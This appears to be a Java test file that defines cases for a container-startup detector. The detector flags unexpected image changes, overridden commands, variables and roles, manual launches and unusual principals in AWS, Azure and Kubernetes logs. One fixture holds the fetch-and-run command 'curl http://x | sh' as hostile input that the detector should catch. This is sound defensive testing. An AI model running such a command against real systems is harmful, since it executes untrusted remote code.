package org.ephemera.analyze.startup;

import static org.ephemera.analyze.startup.StartupFixture.USER;
import static org.ephemera.analyze.startup.StartupFixture.container;
import static org.ephemera.analyze.startup.StartupFixture.event;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.stream.Stream;
import org.ephemera.analyze.testing.FixtureCalls;
import org.ephemera.model.Digest;

/** Cases of container starts with the findings expected. */
final class StartCases {
    private StartCases() {}

    private static final String OTHER = "arn:aws:sts::111122223333:assumed-role/web-deploy/ci";
    private static final String PEOPLE =
            "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/";
    private static final String GROUP = "/subscriptions/s/resourceGroups/shop/providers/p/t/";
    private static final String WRITE = "containerGroups/write";

    private static String digest(String text) {
        return "sha256:"
                + Digest.of(text.getBytes(java.nio.charset.StandardCharsets.UTF_8))
                        .hex();
    }

    static Stream<StartupRulesTest.Case> cases() {
        return Stream.of(
                StartupRulesTest.found("another image without a deployment", "STA-003 medium", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    container(s.task(90)).put("imageDigest", digest("b"));
                }),
                StartupRulesTest.silent("another image after a deployment", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    s.aws(80, OTHER, "ecs:UpdateService", "{}");
                    container(s.task(90)).put("imageDigest", digest("b"));
                }),
                StartupRulesTest.silent("another image after a deployment of an express service", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    s.aws(80, OTHER, "ecs:UpdateExpressGatewayService", "{\"serviceArn\":\"arn:service/shop/web\"}");
                    container(s.task(90)).put("imageDigest", digest("b"));
                }),
                StartupRulesTest.found("another image after another service's deployment", "STA-003 medium", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    s.aws(80, OTHER, "ecs:UpdateService", "{\"service\":\"other\"}");
                    container(s.task(90)).put("imageDigest", digest("b"));
                }),
                StartupRulesTest.silent("another image of another revision", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    container(s.task(90).put("taskDefinitionArn", "app:8")).put("imageDigest", digest("b"));
                }),
                StartupRulesTest.silent("the same image again", s -> {
                    container(s.task(0)).put("imageDigest", digest("a"));
                    container(s.task(90)).put("imageDigest", digest("a"));
                }),
                StartupRulesTest.found("a group pulls another image", "STA-003 medium", s -> pulls(s)),
                StartupRulesTest.silent("a group is redeployed and pulls another image", s -> {
                    s.azure(50, "deploy@shop.example", WRITE);
                    pulls(s);
                }),
                StartupRulesTest.found("another group is redeployed", "STA-003 medium", s -> {
                    s.azure(50, "deploy@shop.example", WRITE).put("resourceId", GROUP + "other");
                    pulls(s);
                }),
                StartupRulesTest.found(
                        "another command",
                        "STA-004 high",
                        s -> StartupRulesTest.overridden(s, StartupRulesTest.command("curl http://x | sh"))),
                StartupRulesTest.silent(
                        "the command of the definition",
                        s -> StartupRulesTest.overridden(s, StartupRulesTest.command("serve"))),
                StartupRulesTest.silent(
                        "names and sizes only",
                        s -> StartupRulesTest.overridden(
                                s, "{\"containerOverrides\":[{\"name\":\"app\",\"cpu\":512}],\"cpu\":\"512\"}")),
                StartupRulesTest.found(
                        "another variable",
                        "STA-004 high",
                        s -> StartupRulesTest.overridden(
                                s,
                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"POOL\",\"value\":\"x\"}]}]}")),
                StartupRulesTest.found(
                        "a file of variables",
                        "STA-004 high",
                        s -> StartupRulesTest.overridden(
                                s,
                                "{\"containerOverrides\":[{\"name\":\"app\",\"environmentFiles\":[{\"type\":\"s3\","
                                        + "\"value\":\"arn:aws:s3:::b/x.env\"}]}]}")),
                StartupRulesTest.silent(
                        "no files of variables",
                        s -> StartupRulesTest.overridden(
                                s, "{\"containerOverrides\":[{\"name\":\"app\",\"environmentFiles\":[]}]}")),
                StartupRulesTest.silent(
                        "the variable of the definition",
                        s -> StartupRulesTest.overridden(
                                s,
                                "{\"containerOverrides\":[{\"name\":\"app\",\"environment\":[{\"name\":\"MODE\",\"value\":\"fast\"}]}]}")),
                StartupRulesTest.silent(
                        "GuardDuty's agent",
                        s -> StartupRulesTest.overridden(
                                s,
                                "{\"containerOverrides\":[{\"name\":\"aws-guardduty-agent-k7q2m\","
                                        + "\"environment\":[{\"name\":\"REGION\",\"value\":\"x\"}]}]}")),
                StartupRulesTest.found("a container that has the name of GuardDuty's agent", "STA-004 high", s -> {
                    s.definition()
                            .withArray("/taskDefinition/containerDefinitions")
                            .addObject()
                            .put("name", "aws-guardduty-agent-k7q2m");
                    s.task(0)
                            .set(
                                    "overrides",
                                    FixtureCalls.json(
                                            "{\"containerOverrides\":[{\"name\":\"aws-guardduty-agent-k7q2m\","
                                                    + "\"environment\":[{\"name\":\"REGION\",\"value\":\"x\"}]}]}"));
                }),
                StartupRulesTest.found(
                        "a command of GuardDuty's agent",
                        "STA-004 high",
                        s -> StartupRulesTest.overridden(
                                s,
                                "{\"containerOverrides\":[{\"name\":\"aws-guardduty-agent-k7q2m\","
                                        + "\"command\":[\"sh\"]}]}")),
                StartupRulesTest.found(
                        "another role",
                        "STA-004 high",
                        s -> StartupRulesTest.overridden(
                                s, "{\"taskRoleArn\":\"arn:aws:iam::111122223333:role/admin\"}")),
                StartupRulesTest.found(
                        "a schedule's command",
                        "STA-004 medium, STA-005 low",
                        s -> StartupRulesTest.overridden(s, StartupRulesTest.command("report"))
                                .put("startedBy", "events-rule/nightly")
                                .put("group", "family:report")),
                StartupRulesTest.found("a call with a command, without its task", "STA-004 high", s -> {
                    s.task(0);
                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":" + StartupRulesTest.command("sh") + "}");
                }),
                StartupRulesTest.found("a call with a command, with the definition of the task", "STA-004 high", s -> {
                    s.task(0);
                    s.aws(0, USER, "ecs:RunTask", started("app"));
                }),
                StartupRulesTest.found("a call with a command, with another definition", "STA-004 low", s -> {
                    s.task(0);
                    s.aws(0, USER, "ecs:RunTask", started("arn:aws:ecs:eu-central-1:1:task-definition/report:4"));
                }),
                StartupRulesTest.found("a call with a command, by a schedule", "STA-004 medium", s -> {
                    s.task(0);
                    s.aws(0, OTHER, "ecs:RunTask", started("app:7"))
                            .withObject("/userIdentity")
                            .put("invokedBy", "scheduler.amazonaws.com");
                }),
                StartupRulesTest.found("by a caller who names a schedule", "STA-004 high", s -> {
                    s.task(0);
                    s.aws(
                            0,
                            USER,
                            "ecs:RunTask",
                            started("app").replace("{\"task", "{\"startedBy\":\"events-rule/x\",\"task"));
                }),
                StartupRulesTest.found(
                        "a call with a command, with its task collected", "STA-004 high, STA-005" + " medium", s -> {
                            StartupRulesTest.overridden(s, StartupRulesTest.command("sh"))
                                    .put("startedBy", "events-rule/x")
                                    .put("group", "family:app");
                            s.aws(0, USER, "ecs:RunTask", started("app"))
                                    .withObject("/responseElements")
                                    .withArray("tasks")
                                    .addObject()
                                    .put("taskArn", "arn:aws:ecs:eu-central-1:111122223333:task/shop/1001");
                        }),
                StartupRulesTest.silent("a call without overrides", s -> {
                    s.task(0);
                    s.aws(0, USER, "ecs:RunTask", "{\"overrides\":{\"containerOverrides\":[]}}");
                }),
                StartupRulesTest.found(
                        "by hand",
                        "STA-005 medium",
                        s -> s.task(0).put("startedBy", "me").put("group", "family:app")),
                StartupRulesTest.found(
                        "by hand, with the group of a service",
                        "STA-005 medium",
                        s -> s.task(0).put("startedBy", "me")),
                StartupRulesTest.found(
                        "by a schedule",
                        "STA-005 low",
                        s -> s.task(0).put("startedBy", "chronos-schedule/x").put("group", "family:app")),
                StartupRulesTest.silent("by the service", s -> s.task(0)),
                StartupRulesTest.found(
                        "a pod without an owner",
                        "STA-005 medium",
                        s -> s.pod("{\"metadata\":{\"namespace\":\"shop\",\"name\":\"x\"}}")),
                StartupRulesTest.silent("a pod of a ReplicaSet", s -> s.pod(StartupRulesTest.OWNED + "{}}")),
                StartupRulesTest.silent(
                        "a static pod of a node",
                        s -> s.pod("{\"metadata\":{\"namespace\":\"kube-system\",\"name\":\"x\","
                                + "\"annotations\":{\"kubernetes.io/config.mirror\":\"1\"}}}")),
                StartupRulesTest.found(
                        "the largest size", "STA-006 medium", s -> s.task(0).put("cpu", "16384")),
                StartupRulesTest.silent("half as large", s -> s.task(0).put("cpu", "8192")),
                StartupRulesTest.found("by a long-term key", "STA-006 medium", s -> {
                    s.task(0);
                    ((ObjectNode) s.aws(0, USER, "ecs:RunTask", "{}").path("userIdentity"))
                            .put("accessKeyId", "AKIAEXAMPLE");
                }),
                StartupRulesTest.silent("by an assumed role", s -> {
                    s.task(0);
                    ((ObjectNode) s.aws(0, OTHER, "ecs:RunTask", "{}").path("userIdentity"))
                            .put("accessKeyId", "ASIAEXAMPLE");
                }),
                StartupRulesTest.found("by a new principal", "STA-006 medium", s -> {
                    s.task(0);
                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
                    s.aws(0, USER, "ecs:RunTask", "{}");
                }),
                StartupRulesTest.silent("by another session of the usual role", s -> {
                    s.task(0);
                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
                    s.aws(0, OTHER + "-2", "ecs:RunTask", "{}");
                }),
                StartupRulesTest.found(
                        "by a new session of a role whose sessions keep their names", "STA-006 medium", s -> {
                            s.task(0);
                            s.aws(-300, OTHER, "ecs:RunTask", "{}");
                            s.aws(-120, OTHER, "ecs:RunTask", "{}");
                            s.aws(0, OTHER + "-me", "ecs:RunTask", "{}");
                        }),
                StartupRulesTest.silent("by the next run of a pipeline that started twice in a run", s -> {
                    s.task(0);
                    s.aws(-300, OTHER + "-1", "ecs:RunTask", "{}");
                    s.aws(-120, OTHER + "-1", "ecs:RunTask", "{}");
                    s.aws(0, OTHER + "-2", "ecs:RunTask", "{}");
                }),
                StartupRulesTest.found("by another person with the same role", "STA-006 medium", s -> {
                    s.task(0);
                    s.aws(-300, PEOPLE + "jane@shop.example", "ecs:RunTask", "{}");
                    s.aws(0, PEOPLE + "joe@shop.example", "ecs:RunTask", "{}");
                }),
                StartupRulesTest.silent("by the usual principal", s -> {
                    s.task(0);
                    s.aws(-300, OTHER, "ecs:RunTask", "{}");
                    s.aws(0, OTHER, "ecs:RunTask", "{}");
                }));
    }

    private static String started(String definition) {
        return "{\"taskDefinition\":\"" + definition + "\",\"overrides\":" + StartupRulesTest.command("sh") + "}";
    }

    private static void pulls(StartupFixture stage) {
        ObjectNode view = stage.view("app", 1);
        event(view, "Pulled", 0, 0, "Successfully pulled image \"r.azurecr.io/app@" + digest("a") + "\"");
        event(view, "Pulled", 52, 52, "Successfully pulled image \"r.azurecr.io/app@" + digest("b") + "\"");
        event(view, "Started", 1, 53, "started");
    }
}
